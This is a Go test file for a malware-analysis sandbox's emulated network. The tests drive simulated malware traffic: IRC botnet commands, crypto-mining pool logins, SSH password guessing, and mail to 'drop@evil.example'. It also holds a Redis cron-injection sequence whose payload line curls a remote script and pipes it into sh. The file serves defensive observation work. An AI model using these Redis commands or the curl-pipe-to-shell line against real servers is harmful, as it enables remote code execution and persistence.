package network_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/smtp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"github.com/redis/go-redis/v9"
	"golang.org/x/crypto/ssh"
	"gvisor.dev/gvisor/pkg/tcpip/adapters/gonet"
	"gvisor.dev/gvisor/pkg/tcpip/network/ipv4"

	"github.com/sallyport-dev/sallyport/sandbox/network"
	"github.com/sallyport-dev/sallyport/sandbox/observation"
)

func TestIRC(t *testing.T) {
	g := newGuest(t)
	conn := g.connect("198.51.100.20:443") // any port
	g.say(conn, "NICK bot7\r\n", "NOTICE AUTH")
	g.say(conn, "USER bot7 0 * :bot\r\n", " 001 bot7 ")
	g.say(conn, "PING :x\r\n", "PONG irc.example.net :x")
	heard := g.say(conn, "JOIN #secret\r\n", "PRIVMSG #secret :!sh echo "+token+"\r\n")
	if !strings.Contains(heard, " 366 bot7 #secret") {
		t.Errorf("joining was answered %q", heard)
	}
	g.say(conn, "PRIVMSG #secret :"+token+"\r\nQUIT\r\n", "ERROR")
	f := g.flow("the conversation", to("198.51.100.20:443"))
	if f.App != "irc" || !slices.Equal(messages(f, true), []string{"NICK", "USER", "PING", "JOIN", "PRIVMSG", "QUIT"}) || !slices.Equal(messages(f, false), []string{"PRIVMSG"}) {
		t.Errorf("recorded as %+v", f)
	}
	if m := f.Messages[3]; m.Fields["channel"] != "#secret" {
		t.Errorf("JOIN recorded as %+v", m)
	}
}

func TestIRCInsideTLS(t *testing.T) {
	g := newGuest(t)
	conn := g.secure("c2.example:6697")
	g.say(conn, "NICK a\r\nUSER a a a a\r\nJOIN #x\r\n", token)
	f := g.flow("the conversation", func(f observation.Flow) bool { return f.SNI == "c2.example" })
	if f.App != "irc" || !f.TLS || f.Domain != "c2.example" || !strings.HasPrefix(f.Out, `NICK a\x0d\x0a`) {
		t.Errorf("recorded as %+v", f)
	}
}

func TestMining(t *testing.T) {
	for name, c := range map[string]struct {
		says []string // requests
		want []string // in the answers
		out  []string // methods recorded
		in   []string
	}{
		"Stratum": {
			[]string{`{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}`, `{"id":2,"method":"mining.authorize","params":["wallet.1","x"]}`, `{"id":3,"method":"mining.submit","params":["wallet.1","1","0","0","0"]}`},
			[]string{`"id":1`, `"mining.notify"`, `"id":3`},
			[]string{"mining.subscribe", "mining.authorize", "mining.submit"}, []string{"mining.notify"},
		},
		"Monero": {
			[]string{`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4wallet","pass":"x","agent":"XMRig/6.21"}}`, `{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"1","job_id":"1","nonce":"00000000","result":"00"}}`},
			[]string{`"blob":"1010`, `"status":"OK"`},
			[]string{"login", "submit"}, []string{"job"},
		},
		"Ethereum": {
			[]string{`{"id":1,"method":"eth_submitLogin","params":["0xwallet"]}`, `{"id":2,"method":"eth_getWork","params":[]}`},
			[]string{`"result":true`, `"0x0000`},
			[]string{"eth_submitLogin", "eth_getWork"}, nil,
		},
	} {
		for _, secure := range []bool{false, true} {
			t.Run(name, func(t *testing.T) {
				g := newGuest(t)
				var conn net.Conn
				if secure {
					conn = g.secure("pool.example:443")
				} else {
					conn = g.connect(netip.AddrPortFrom(g.resolve("pool.example", dns.TypeA), 3333).String())
				}
				for i, words := range c.says {
					heard := g.say(conn, words+"\n", c.want[i])
					for line := range strings.Lines(heard) {
						if !json.Valid([]byte(line)) {
							t.Errorf("%q is not JSON", line)
						}
					}
				}
				f := g.flow("the conversation", func(f observation.Flow) bool { return f.App == "stratum" })
				out := slices.DeleteFunc(messages(f, true), func(s string) bool { return s == "handshake" })
				if f.Domain != "pool.example" || f.TLS != secure || !slices.Equal(out, c.out) || !slices.Equal(messages(f, false), c.in) {
					t.Errorf("recorded as %+v", f)
				}
			})
		}
	}
}

func TestJSONThatIsNoMining(t *testing.T) {
	g := newGuest(t)
	for i, words := range []string{`{"method":"ping","id":1}` + "\n", `{"hello":"world"}` + "\n", "{broken\n"} {
		conn := g.connect(netip.AddrPortFrom(netip.MustParseAddr("198.51.100.30"), uint16(3333+i)).String())
		io.WriteString(conn, words)
		f := g.flow("the line", func(f observation.Flow) bool { return f.App != "" && f.DstPort == uint16(3333+i) })
		if f.App != "raw" || len(f.Messages) > 0 {
			t.Errorf("%q: recorded as %+v", words, f)
		}
	}
}

func TestRedis(t *testing.T) {
	g := newGuest(t)
	client := redis.NewClient(&redis.Options{
		Addr: "198.51.100.40:7001", Dialer: func(context.Context, string, string) (net.Conn, error) { return g.dial("198.51.100.40:7001") },
		DisableIdentity: true, MaxRetries: -1,
	})
	defer client.Close()
	ctx := t.Context()
	for _, command := range [][]any{
		{"config", "set", "dir", "/var/spool/cron"}, {"config", "set", "dbfilename", "root"}, {"set", "x", "\n* * * * * curl http://198.51.100.1/x.sh|sh\n"},
		{"save"}, {"slaveof", "198.51.100.1", "6379"}, {"module", "load", "/tmp/x.so"}, {"flushall"},
	} {
		if answer, err := client.Do(ctx, command...).Result(); err != nil || answer != "OK" {
			t.Errorf("%v: %v, %v", command, answer, err)
		}
	}
	if info, err := client.Info(ctx).Result(); err != nil || !strings.Contains(info, "redis_version") {
		t.Errorf("info: %q, %v", info, err)
	}
	if dir, err := client.ConfigGet(ctx, "dir").Result(); err != nil || dir["dir"] == "" {
		t.Errorf("config get: %v, %v", dir, err)
	}
	if keys, err := client.Keys(ctx, "*").Result(); err != nil || len(keys) != 0 {
		t.Errorf("keys: %v, %v", keys, err)
	}
	f := g.flow("all commands", func(f observation.Flow) bool { return slices.Contains(messages(f, true), "KEYS") })
	i := slices.IndexFunc(f.Messages, func(m observation.Message) bool { return m.Type == "CONFIG" })
	if f.App != "redis" || i < 0 || f.Messages[i].Fields["args"] != "set dir /var/spool/cron" {
		t.Errorf("recorded as %+v", f)
	}
	inline := g.connect("198.51.100.41:6379")
	g.say(inline, "PING\r\n", "+PONG\r\n")
}

func TestSSHTriesAreRecorded(t *testing.T) {
	g := newGuest(t)
	conn := g.connect("198.51.100.60:22")
	tries := 0
	_, _, _, err := ssh.NewClientConn(conn, "198.51.100.60:22", &ssh.ClientConfig{
		User: "root", HostKeyCallback: ssh.InsecureIgnoreHostKey(), //nolint: the server is ours
		Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
			tries++
			return []string{"root", "toor", "123456"}[(tries-1)%3], nil
		}), 3)},
	})
	if err == nil {
		t.Fatal("somebody was let in")
	}
	f := g.flow("three tries", func(f observation.Flow) bool { return len(f.Messages) >= 4 })
	if f.App != "ssh" || f.Messages[0].Type != "ident" || !strings.HasPrefix(f.Messages[0].Fields["version"], "SSH-2.0-") {
		t.Errorf("recorded as %+v", f)
	}
	for i, password := range []string{"root", "toor", "123456"} {
		if m := f.Messages[i+1]; m.Type != "auth" || m.Fields["password"] != password || m.Fields["user"] != "root" {
			t.Errorf("try %d is recorded as %+v", i, m)
		}
	}
	silent := g.connect("198.51.100.61:22")
	if banner := g.say(silent, "", "\r\n"); !strings.HasPrefix(banner, "SSH-2.0-OpenSSH") {
		t.Errorf("a scanner sees %q", banner)
	}
}

func TestMailIsTaken(t *testing.T) {
	g := newGuest(t)
	client, err := smtp.NewClient(g.connect("198.51.100.70:25"), "mail.example")
	if err != nil {
		t.Fatal(err)
	}
	if err := client.Mail("bot@victim.example"); err != nil {
		t.Fatal(err)
	}
	if err := client.Rcpt("drop@evil.example"); err != nil {
		t.Fatal(err)
	}
	w, err := client.Data()
	if err != nil {
		t.Fatal(err)
	}
	io.WriteString(w, "Subject: loot\r\n\r\nhello\r\n")
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := client.Quit(); err != nil {
		t.Fatal(err)
	}
	f := g.flow("the mail", to("198.51.100.70:25"))
	if f.App != "smtp" || !slices.Equal(messages(f, true), []string{"EHLO", "MAIL", "RCPT", "DATA", "subject", "QUIT"}) {
		t.Errorf("recorded as %+v", f)
	}
}

// TestMailInsideTLS: what is said after STARTTLS is understood, and who is greeted
// there was greeted before.
func TestMailInsideTLS(t *testing.T) {
	g := newGuest(t)
	client, err := smtp.NewClient(g.connect("198.51.100.71:587"), "mail.example")
	if err != nil {
		t.Fatal(err)
	}
	config := g.browser(dns.TypeA).Transport.(*http.Transport).TLSClientConfig.Clone()
	config.ServerName = "mail.example"
	if err := client.StartTLS(config); err != nil {
		t.Fatal(err)
	}
	if again, _ := client.Extension("STARTTLS"); again {
		t.Error("it is offered inside of itself")
	}
	if err := client.Auth(smtp.PlainAuth("", "bot", "hunter2", "mail.example")); err != nil {
		t.Fatal(err)
	}
	if err := client.Quit(); err != nil {
		t.Fatal(err)
	}
	f := g.flow("the mail", to("198.51.100.71:587"))
	if f.App != "smtp" || !f.TLS || f.SNI != "mail.example" || !slices.Equal(messages(f, true), []string{"EHLO", "STARTTLS", "handshake", "EHLO", "AUTH", "QUIT"}) || !strings.Contains(f.Out, "AUTH PLAIN") {
		t.Errorf("recorded as %+v", f)
	}
}

// TestJobsAreOfTheGuestsTime: a miner drops those that are too old.
func TestJobsAreOfTheGuestsTime(t *testing.T) {
	now := time.Date(2031, 5, 6, 7, 8, 9, 0, time.UTC)
	g := newGuest(t, func(c *network.Config) { c.Now = func() time.Time { return now } })
	heard := g.say(g.connect("198.51.100.80:3333"), `{"id":2,"method":"mining.authorize","params":["wallet.1","x"]}`+"\n", "mining.notify")
	if want := fmt.Sprintf(`"%08x",true`, now.Unix()); !strings.Contains(heard, want) {
		t.Errorf("%q does not hold %s", heard, want)
	}
}

func TestMemcachedOverUDP(t *testing.T) {
	g := newGuest(t)
	at := full(netip.MustParseAddrPort("198.51.100.90:11211"))
	conn, err := gonet.DialUDP(g.stack, nil, &at, ipv4.ProtocolNumber)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := conn.Write([]byte("\x12\x34\x00\x00\x00\x01\x00\x00stats\r\n")); err != nil {
		t.Fatal(err)
	}
	_ = conn.SetReadDeadline(time.Now().Add(10 * time.Second))
	answer := make([]byte, 2048)
	n, err := conn.Read(answer)
	if err != nil || !strings.HasPrefix(string(answer[:n]), "\x12\x34\x00\x00\x00\x01\x00\x00STAT pid") {
		t.Errorf("%q, %v", answer[:n], err)
	}
	if f := g.flow("the question", to("198.51.100.90:11211")); f.App != "memcached" || !slices.Equal(messages(f, true), []string{"stats"}) {
		t.Errorf("recorded as %+v", f)
	}
}
